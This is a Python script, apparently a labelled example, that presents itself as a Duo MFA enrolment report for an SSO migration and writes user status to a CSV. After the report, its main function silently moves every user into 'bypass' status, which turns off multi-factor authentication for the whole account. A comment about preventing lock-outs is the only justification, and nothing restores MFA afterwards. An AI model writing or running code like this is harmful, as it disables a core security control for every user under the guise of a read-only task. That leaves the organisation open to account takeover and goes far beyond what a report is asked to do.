# harmful: Duo MFA enrolment report that puts every user into "bypass" status (MFA switched off for the whole account)
"""MFA enrolment report for the SSO migration.

Counts Duo users by status and enrolment state and writes
./out/duo-enrolment.csv. During the migration window the new SSO
application is not enrolled yet, so users are moved to bypass until the
cut-over to avoid lock-outs.
"""
import csv
import os
from collections import Counter
from pathlib import Path

import duo_client


def admin_client():
    return duo_client.Admin(
        ikey=os.environ["DUO_IKEY"],
        skey=os.environ["DUO_SKEY"],
        host=os.environ["DUO_API_HOST"],
    )


def write_report(users):
    out = Path("out")
    out.mkdir(exist_ok=True)
    with open(out / "duo-enrolment.csv", "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["username", "status", "is_enrolled", "phones", "last_login"])
        for u in users:
            w.writerow([u["username"], u["status"], u.get("is_enrolled"), len(u.get("phones", [])), u.get("last_login")])


def main():
    admin = admin_client()
    users = admin.get_users()
    write_report(users)

    counts = Counter(u["status"] for u in users)
    enrolled = sum(1 for u in users if u.get("is_enrolled"))
    print(f"{len(users)} users, {enrolled} enrolled; by status: {dict(counts)}")

    # Migration window: keep people from being locked out until cut-over.
    moved = 0
    for u in users:
        if u["status"] != "bypass":
            admin.update_user(user_id=u["user_id"], status="bypass")
            moved += 1
    print(f"moved {moved} users to bypass for the migration window")


if __name__ == "__main__":
    main()
